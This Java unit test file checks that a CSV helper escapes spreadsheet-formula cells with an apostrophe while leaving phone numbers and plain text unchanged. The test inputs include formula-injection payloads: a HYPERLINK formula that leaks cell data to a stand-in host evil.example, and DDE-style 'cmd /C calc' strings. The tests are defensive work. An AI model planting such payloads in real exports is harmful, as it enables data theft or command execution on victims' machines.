package vn.ndp.registry.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvFilesTests {

    @Test
    void aValueASpreadsheetWouldRunAsAFormulaIsWrittenWithAnApostrophe() {
        assertThat(CsvFiles.cell("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")");
        assertThat(CsvFiles.cell("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
        assertThat(CsvFiles.cell("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(CsvFiles.cell("+cmd|' /C calc'!A0")).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(CsvFiles.cell("\t=1+1")).isEqualTo("'\t=1+1");
    }

    @Test
    void numbersTelephoneNumbersAndTextStayAsTheyAre() {
        for (String plain : List.of("+84 24 3333 4444", "-5", "(024) 3822-1234", "Cổng Dịch vụ công quốc gia", "",
                "a=b", "3", "2025-09-11")) {
            assertThat(CsvFiles.cell(plain)).as(plain).isEqualTo(plain);
        }
    }

    @Test
    void aWrittenFileReadsBackAsItWas() {
        List<String> values = List.of("=HYPERLINK(\"x\")", "+84 24 3333 4444", "'quoted by its author", "-cmd");
        byte[] csv = CsvFiles.write(List.of("a", "b", "c", "d"), rows -> rows.accept(values));
        assertThat(new String(csv, StandardCharsets.UTF_8)).startsWith("\uFEFFa,b,c,d").contains("'=HYPERLINK");

        Tabular.Table table = Tabular.readCsv(csv, n -> { });
        assertThat(Arrays.asList(table.rows().getFirst().get("a"), table.rows().getFirst().get("b"),
                table.rows().getFirst().get("c"), table.rows().getFirst().get("d"))).isEqualTo(values);
    }
}
